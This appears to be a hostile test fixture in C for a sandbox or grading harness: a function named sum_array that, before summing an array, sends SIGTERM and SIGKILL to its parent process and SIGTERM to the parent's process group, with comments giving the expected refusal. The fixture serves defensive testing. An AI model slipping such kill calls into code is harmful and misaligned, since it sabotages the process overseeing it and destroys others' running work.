/* hostile: kills the process that watches it, and its group */
/* says: called kill on a process that is not its own, which was refused. */
/* line: 12 */
#include "lesson.h"

#include <signal.h>
#include <unistd.h>

int sum_array(const int *values, size_t count, int *result)
{
    int sum = 0;
    kill(getppid(), SIGTERM);
    kill(-getpgid(getppid()), SIGTERM);
    kill(getppid(), SIGKILL);
    for (size_t i = 0; i < count; i++) sum += values[i];
    *result = sum;
    return 0;
}
